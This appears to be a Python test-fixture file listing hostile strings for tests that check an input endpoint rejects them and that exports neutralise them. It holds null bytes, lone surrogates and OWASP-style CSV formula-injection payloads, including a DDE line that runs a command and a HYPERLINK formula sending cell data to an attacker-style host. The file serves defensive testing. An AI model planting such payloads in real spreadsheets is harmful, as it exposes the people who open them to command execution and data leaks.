"""Strings a hostile participant (or a careless researcher) sends, shared by the tests that
check the door refuses them and the exports neutralise them (issue 14)."""

# Not storable as text: lone surrogates (JSON's "\ud800" escapes) and U+0000.
UNSTORABLE = ["\ud800", "a\udfffb", "\x00", "a\x00b"]
# What spreadsheets run as formulas when a cell begins so (OWASP's CSV injection list).
FORMULAS = [
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "-2+3",
    "\t=1+1",
    "\r=1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
]
